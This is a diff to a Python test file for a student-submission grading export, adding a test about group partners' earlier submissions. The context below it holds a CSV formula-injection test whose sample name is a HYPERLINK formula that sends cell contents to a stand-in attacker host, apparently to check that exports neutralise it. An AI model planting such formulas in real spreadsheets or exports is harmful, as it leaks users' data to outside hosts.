@@ -105,6 +105,16 @@ def test_a_group_shares_what_it_handed_in(results, write_students, tables):
     ]  # fmt: skip
 
 
+def test_an_earlier_submission_still_counts_for_a_partner(results, write_students, tables):
+    """x has handed in alone after x and y had handed in together."""
+    write_students(
+        {"student": "x", "submission": "anna", "group": [], "superseded": ["ben"]},
+        {"student": "y", "submission": "ben", "group": ["x", "y"], "superseded": []},
+    )
+    rows = columns(tables(results)["items"], "student", "submission")
+    assert rows == [["x", "anna"], ["y", "ben"], ["clara", "clara"], ["dora", "dora"]]
+
+
 def test_what_students_call_themselves_is_no_formula(results, write_students, tables):
     hostile = '=HYPERLINK("http://evil.example?"&A1,"grade")'
     write_students({"student": "+1", "name": hostile, "email": "@SUM(A1)", "submission": "anna"})
